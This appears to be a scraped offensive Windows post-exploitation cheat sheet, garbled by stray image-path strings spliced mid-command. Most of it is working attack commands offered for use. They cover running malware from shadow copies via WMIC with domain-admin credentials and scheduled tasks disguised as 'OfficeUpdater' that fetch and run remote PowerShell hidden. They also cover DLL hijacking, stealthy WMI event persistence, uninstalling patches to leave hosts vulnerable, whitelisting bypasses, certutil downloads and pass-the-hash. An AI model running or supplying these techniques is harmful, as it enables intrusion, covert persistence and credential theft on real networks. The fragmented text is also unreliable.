Drop Malware -> Create VSC (ReadOnly) -> Delete Malware -> Use WMIC to run VSC ofmalware

Registry Key to Disable Volume Shadow Copy



VSSADMIN – native windows utility

vssadmin create command only applies to Server OS (Win2k3,2008)

vssadmin list shadows
vssadmin create shadow /for=C:
wmic /node:DC1 /user:DOMAIN\domainadminsvc /password:domainadminsvc123 process call create "cmd /c vssadmin create shadow /for=C
mklink /D C:\VscAccess \\?\GLOBALROOT\Device\HardDiskVolumeShadowCopy1
copy \\?\GLOBALROOT\Device\HardDiskVolumeShadowCopy4\path\to\some\file e:\files


Use WMIC process call to run an .exe from a Volume Shadow Copy

wmic process call create \\.\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\windows\system32\evil.exe


This process will not show the imagename (executable filename) or commandline parameters in the task list.
The file cannot be individually deleted from the shadow copy once created. The entire shadow copy must be deleted to remove it.

root@kali:~# wmis -U DOMAIN\domainadminsvc%domainadminsvc123 //ServerName \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\system32\evil.exe

In Kali Linux you could use the WMIS package to do the same thing:

wmis -U DOMAIN\domainadminsvc%domainadminsvc123 //ServerName \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\system32\evil.exe

Task Scheduling


Executes as system and must be an Admin to run it. Check groups with whoami /groups

at 13:20 /interactive cmd

net user \\target /user:Domain\user pass
net time \\target
at \\target 13:20 c:\temp\evil.bat


Any user can create a task

Schedule a binary to run with arguments on system events#On System Startup schtasks /create /TN OfficeUpdaterA /tr ""c:\evil32.exe" -k password -n services" /SC onstart /RU system /RL HIGHEST schtasks /create /TN OfficeUpdaterD /tr "\"c:\Program Files\evil32.exe\" -k password -n services" /SConstart /RU system /RL HIGHEST #On User Login schtasks /create /TN OfficeUpdaterB /tr ""c:\evil32.exe" -k password -n services" /SC onlogon schtasks /create /TN OfficeUpdaterE /tr "\"c:\Program Files\evil32.exe\" -k password -n services" /SC onlogon #On Idle schtasks /create /TN OfficeUpdaterC /tr ""c:\evil32.exe" -k password -n services" /SC onidle /i 30'''' schtasks /create /TN OfficeUpdaterF /tr "\"c:\Program Files\evil32.exe\" -k password -n services" /SC onidle /i 60

Use the Powershell Web Delivery (Download and Execute) module in Metasploit ‘exploit\windows\misc\psh_web_delivery’

#(X86) - On User Login schtasks /create /tn OfficeUpdaterA /tr "c:\windows\system32\WindowsPowerShell\v1.0\powershell.exe -WindowStyle hidden -NoLogo -NonInteractive -ep bypass -nop -c 'IEX ((new-object net.webclient).downloadstring('''http:///'''))'" /sc onlogon /ru System #(X86) - On System Startschtasks /create /tn OfficeUpdaterB /tr "c:\windows\system32\WindowsPowerShell\v1.0\powershell.exe -WindowStyle hidden -NoLogo -NonInteractive -ep bypass -nop -c 'IEX ((new-object net.webclient).downloadstring('''http:///'''))'" /sc onstart /ru System #(X86) - On User Idle (30mins) schtasks /create /tn OfficeUpdaterC /tr "c:\windows\system32\WindowsPowerShell\v1.0\powershell.exe -WindowStyle hidden -NoLogo -NonInteractive -ep bypass -nop -c 'IEX ((new-object net.webclient).downloadstring('''http:///'''))'" /sc onidle /i 30 #(X64) - On User Login schtasks /create /tn OfficeUpdaterA /tr "c:\windows\syswow64\WindowsPowerShell\v1.0\powershell.exe -WindowStyle hidden -NoLogo -NonInteractive -ep bypass -nop -c 'IEX ((new-object net.webclient).downloadstring('''http:///'''))'" /sc onlogon /ru System #(X64) - On SystemStart schtasks /create /tn OfficeUpdaterB /tr "c:\windows\syswow64\WindowsPowerShell\v1.0\powershell.exe -WindowStyle hidden -NoLogo -NonInteractive -ep bypass -nop -c 'IEX ((new-object net.webclient).downloadstring('''http:///'''))'" /sc onstart /ru System #(X64) - On User Idle (30mins) schtasks /create /tn OfficeUpdaterC /tr "c:\windows\syswow64\WindowsPowerShell\v1.0\powershell.exe -WindowStyle hidden -NoLogo -NonInteractive -ep bypass -nop -c 'IEX ((new-object net.webclient).downloadstring(''''''))'" /sc onidle /i 30

Additional Notes

Scheduled Tasks binary paths CANNOT contain spaces because everything after the first space in the path is considered to be a command-line argument. To workaround this behavior, enclose the /TR path parameter between backslash () AND quotation marks (“):

Delete scheduled task without prompting

schtasks /delete /f /TN taskname

Detailed scheduled tasks listing

schtasks /query /V /FO listView scheduled tasks log (for troubleshooting)

notepad c:\windows\schedlgu.txt (Windows XP)

notepad c:\windows\tasks\schedlgu.txt (Vista+)

Windows Service

sc query
sc create <\\Target(optional)> binPath= type= share start= auto DisplayName=
sc deleteOrder of DLL Loading

1. The directory from which the application is loaded
2. The current directory
3. The system directory, usually C:\\Windows\\System32\\ (The GetSystemDirectory function is called to obtain this directory.)
4. The 16-bit system directory - There is no dedicated function to retrieve the path of this directory, but it is searched as well.
5. The Windows directory. The GetWindowsDirector function is called to obtain this directory.
6. The directories that are listed in the PATH environment variable.

Many systems use bginfo (seen it a lot in operational sys). Drop Riched32.dll in the dir with bginfo.exe. Codex.

Older list of dlls as well (2010).

On Windows 7 there are three executables that could be exploited and associated DLLs listed below




On Windows 8 there are also three executables that could be exploited and associated DLLs listed below




Windows 8.1 there are also three executables that could be exploited and associated DLLs listed below



C:\Program Files\Common Files\microsoft shared\ink\CRYPTBASE.dll
C:\Program Files\Common Files\microsoft shared\ink\CRYPTSP.dll
C:\Program Files\Common Files\microsoft shared\ink\dwmapi.dll
C:\Program Files\Common Files\microsoft shared\ink\USERENV.dll
C:\Program Files\Common Files\microsoft shared\ink\OLEACC.dlllinkinfo.dll Replacement

Windows explorer inolder systems loads linkinfo.dll from c:\windows over c:\windows\system32 if it exists

copy evil.dll c:\windows\linkinfo.dll

WMI Event Persistence via Powershell

WMI Event persistence explained, you can find a bloated version in powersploit.
Three parts to this:
* WMI Event Filter
* Event Consumer
* Filter/Consumer Binding
This technique gets you SYSTEM level persistence, requires admin rights to execute.
Autoruns doesn’t even check for this yet. (doubt any AVs are either)
Difficult to detect, Difficult to remove if you dont know what youre doing.

WMI Event Filter

Create an event that checks every60 seconds for a change in Win32_PerfFormattedData_PerfOS_System. (this is always changing)

$EventFilter = ([WMICLASS]"\\.\root\subscription:__EventFilter").CreateInstance()
$EventFilter.QueryLanguage = "WQL"
$EventFilter.Query = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND TargetInstance.SystemUpTime < 325"
$EVentFilter.EventNamespace = "root\cimv2"
$EventFilter.Name = "OBVIOUSHACKER"
$Result = $EventFilter.Put()
$Filter = $Result.Path

Event Consumer

Configure what to execute once the event occurs.
Current example is just a ping.

$InstanceConsumer = ([wmiclass]"\\.\root\subscription:CommandLineEventConsumer").CreateInstance()
$InstanceConsumer.Name = "OBVIOUSHACKER"
$InstanceConsumer.CommandLineTemplate = "ping -n 100" #CMD TO EXECUTE HERE
$InstanceConsumer.WorkingDirectory = "C:\\windows\\system32"
$Result = $InstanceConsumer.Put()
$Consumer = $Result.Path

Filter/Consumer Binding

This is the object that correlates the Filter with the Consumer.Runs as system as a child of WmiPrvSE.exe under the svchost.exe running Dcom service.

$InstanceBinding = ([wmiclass]"\\.\root\subscription:__FilterToConsumerBinding").CreateInstance()
$InstanceBinding.Filter = $Filter
$InstanceBinding.Consumer = $Consumer
$Result = $InstanceBinding.Put()


The filter name would change depending on what you call the wmi event on your target (OBVIOUSHACKER shown as the example)

Get-WmiObject __eventFilter -namespace root\subscription -filter "name='OBVIOUSHACKER'"| Remove-WmiObject
Get-WmiObject CommandLineEventConsumer -Namespace root\subscription -filter "name='OBVIOUSHACKER'" | Remove-WmiObject
Get-WmiObject __FilterToConsumerBinding -Namespace root\subscription | Where-Object { $_.filter -match 'OBVIOUSHACKER'} | Remove-WmiObjectSome more detailed information on the subject

Malicious Outlook Rules

  • Ruler

Windows Remote Management (WinRM) / PSRemoting

  • Listens on 5985/5986 by defaultand allows interactive shell access over HTTP/S
  • Find by scanning for /wsman and looking for HTTP 402 errors (or use Metasploit module)
  • Metasploit has multiple modules for locating the service and gaining shells over WinRM

Connect to a remote host with WinRM from local Windows host

Set-Item -Path WSMan:\localhost\Client\TrustedHosts * -force
Set-Item -Path WSMan:\localhost\Client\TrustedHosts -value "" -Force
$cred = Get-Credential
Invoke-Command -ComputerName -ScriptBlock { gci c:\ } -credential $cred

Uninstall a patch to leave the system vulnerable

wusa.exe /uninstall /kb:976932

Create custom DLL for password filters and install on DC to capture changed passwords


Application Whitelisting Bypass Techniques

SubTee Collection of Whitelist Bypass Techniques

Version .0.0.3

1. IEExec -This technique may work in certain environments. Its relies on the fact that many organizations trust executables signed
by Microsoft. We can misuse this trust by launching a specially crafted .NET application.
Example Here:

2. Rundll32.exe

3. ClickOnce Applications dfsvc.exe dfshim.dll

4. XBAP - XML Browser Applications WPF PresentationHost.exe

5. MD5 Hash Collision

6. PowerShell - Specifically Reflective Execution
Reflective DLL Injection with PowerShell

7. .HTAApplication Invoke PowerShell Scripts
Launched by mshta.exe, bypasses IE security settings as well.

8. bat, vbs, ps1
1. cmd.exe /k < script.txt 2. cscript.exe //E:vbscript script.txt 3. Get-Content script.txt | iex 9. Malicious Troubleshooting packs - MSDT.exe Reference: Thanks to @nberthaume, @Killswitch_GUI 10. InstallUtil.exe A signed MS binary that loads assemblies and executes - One of the best. Examples here: 11. Regsvcs/Regasm See: These 2 are Excellent. 12. regsvr32.exe This one is just simply amazing... regsvr32 /s /n /u /i: scrobj.dll 13. Msbuild.exe ``` ## Certutil File download ``` certutil -urlcache -split -f ``` ## Active Directory Enumeration ### Adfind ``` AdFind.exe -u -up password -h -b dc=domain,dc=com -f "objectcategory=computer" > domain_computers.txt

AdFind.exe -u -up password -h -b dc=domain,dc=com -f "objectcategory=computer" distinguishedName dNSHostName description whenchanged operatingSystem operatingSystemVersion > domain_computers_light.txt

AdFind.exe -u -up pass -h -b dc=domain,dc=com -f "objectcategory=user" samaccountname description pwdlastset orclcommonattribute > domain_users_light.txt



List help for cmdlet: Get-Help [cmdlet] -full

List available properties and methods: Get-Member

For-each loop: ForEach-Object { $_ }

Search for string (like grep): Select-String -path [file] -pattern [string]


$file=(gi c:\file.exe);
$date='01/03/2009 12:12 pm';


Show last system boot time

Get-WmiObject win32_operatingsystem | select csname, @{LABEL='LastBootUpTime'; EXPRESSION={$_.ConverttoDateTime($_.lastbootuptime)}}


Wrap binary execution in a powershell loop

powershell foreach ($target in (get-content c:\users\username\appdata\local\temp\hosts_da_loggedin_unique.txt)) { "[*] $Target:";(c:\programdata\sd.exe ./administrator@$target -hashes aad3b435b51404eeaad3b435b51404ee:a4bab1c7d4bef62d4c22043ddbf1312c) }`

Download a file

